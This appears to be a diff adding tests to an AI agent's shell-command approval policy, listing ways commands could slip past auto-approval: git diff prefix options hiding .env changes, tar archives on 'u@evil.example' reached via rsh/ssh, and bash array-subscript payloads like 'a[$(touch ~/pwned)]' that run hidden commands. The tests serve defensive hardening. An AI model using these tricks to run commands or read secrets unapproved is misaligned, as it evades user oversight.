@@ -289,6 +289,33 @@ describe("core/agent: command policy", () => {
     for (const command of allowed) assert.equal(decideCommand(command, defaults).kind, "allow", command);
   });
 
+  it("asks for git's --src-prefix and --dst-prefix, which rename a diff's files past the sensitive-file filter", () => {
+    const defaults: CommandPolicy = { autoApprove: ["ls", "pwd", "git status", "git diff", "git log"], deny: defaultDenyRules };
+    // git 2.39 wrote `diff --git zz.env zz.env` for a tracked .env, which no sensitive pattern matches.
+    for (const command of ["git diff --src-prefix=zz --dst-prefix=zz", "git log -p --dst-pre=q", "git diff --src-prefix zz"]) {
+      assertAsks(command, defaults, /^It has an option that renames the files in a diff \(--(src|dst)-prefix\), so that a sensitive file's changes could not be left out of what it shows, which always needs approval/);
+    }
+    for (const command of ["git diff --no-prefix", "git log --stat", "git diff --relative"]) assert.equal(decideCommand(command, defaults).kind, "allow", command);
+  });
+
+  it("asks for a tar archive named HOST:FILE, which tar reaches by running rsh or ssh, under a rule naming tar", () => {
+    const defaults: CommandPolicy = { autoApprove: ["tar", "tar -tf"], deny: defaultDenyRules };
+    // GNU tar 1.34 ran /usr/bin/rsh localhost /usr/sbin/rmt for `tar -tf localhost:a.tar`.
+    const asked = ["tar -tf localhost:a.tar", "tar czf u@evil.example:x.tgz .", "tar -tvfhost:a.tar", "tar --file=host:a.tar -t", "tar -t --fil=host:a.tar"];
+    for (const command of asked) assertAsks(command, defaults, /^It has an archive on another machine \(.+:a?.*\), which tar reaches by running rsh or ssh, which always needs approval/);
+    const allowed = ["tar -tf ./host:a.tar", "tar -tf host:a.tar --force-local", "tar --owner=root:root -cf x.tar .", "tar -tf dir/a:b.tar"];
+    for (const command of allowed) assert.equal(decideCommand(command, defaults).kind, "allow", command);
+  });
+
+  it("asks for an array element whose subscript bash evaluates (test -v, [ -v ], printf -v, read), under rules naming them", () => {
+    const rules: CommandPolicy = { autoApprove: ["test", "[", "printf", "read"], deny: defaultDenyRules };
+    // bash 5.2 ran touch for each of these: the builtins evaluate a name's subscript as arithmetic, quoted or not.
+    const asked = ["test -v 'a[$(touch ~/pwned)]'", "[ -v 'a[$(touch ~/pwned)]' ]", "printf -v 'a[$(touch ~/pwned)]' x", "printf -v'a[`touch ~/pwned`]' x", "read 'a[$(touch ~/pwned)]' < in.txt"];
+    for (const command of asked) assertAsks(command, rules, /^It has an array element \(a\[.+\]\) whose subscript bash evaluates, running the command written in it, which always needs approval/);
+    const allowed = ["test -v 'a[1]'", "[ -f x ]", "printf '%s\\n' 'a[$(id)]'", "read -r line < in.txt"];
+    for (const command of allowed) assert.equal(decideCommand(command, rules).kind, "allow", command);
+  });
+
   it("asks for a lesskey file given to less, which may set the command less runs on each file (LESSOPEN)", () => {
     const defaults: CommandPolicy = { autoApprove: ["less"], deny: defaultDenyRules };
     const asked = [
@@ -460,6 +487,22 @@ describe("core/agent: command policy", () => {
     const asked = ["ls ${a['$(touch ~/pwned)']}", "ls $(( 'a[$(touch ~/pwned)]' ))", "ls ${HOME:'$(touch ~/pwned)'}", "ls ${a['`touch ~/pwned`']}", "ls && [[ 'a[$(touch ~/pwned)]' -eq 0 ]]", "ls && [[ -v 'a[$(touch ~/pwned)]' ]]"];
     for (const command of asked) assertAsks(command, defaults, /quoted text that bash evaluates as arithmetic/);
     const allowed = ["ls '$(id)'", "ls ${x:-'$(id)'}", "ls $(( 1 + 2 ))", "ls ${a[1]}", "ls && [[ -f x ]]", "ls && (( 1 ))"];
+    for (const command of allowed) assert.equal(decideCommand(command, defaults).kind, "allow", command);
+  });
+
+  it("asks when the line evaluates as arithmetic a variable it sets to text that may hold a command", () => {
+    const defaults: CommandPolicy = { autoApprove: ["ls", "pwd", "git status", "git diff", "git log"], deny: defaultDenyRules };
+    // bash 5.2 ran touch for each: no substitution is written where it runs, the variable's value is evaluated there.
+    const asked = [
+      "for x in 'a[$(touch ~/pwned)]'; do ls $((x)); done",
+      "for x in 'a[$(touch ~/pwned)]'; do ls ${!x}; done",
+      "for x in 'a[$(touch ~/pwned)]'; do ls && [[ $x -eq 1 ]]; done",
+      "ls ${x:='a[$(touch ~/pwned)]'} $((x))",
+      // A file may be named a[$(touch ~/pwned)].
+      "for x in *; do ls ${b[x]}; done",
+    ];
+    for (const command of asked) assertAsks(command, defaults, /it evaluates as arithmetic a variable it sets to text that may hold a command/);
+    const allowed = ["for i in 1 2 3; do ls $((i + 1)); done", "for x in *; do ls $x; done", "ls ${x:=a} $((x))", "ls ${x:-'$(id)'} $((x))"];
     for (const command of allowed) assert.equal(decideCommand(command, defaults).kind, "allow", command);
   });
 
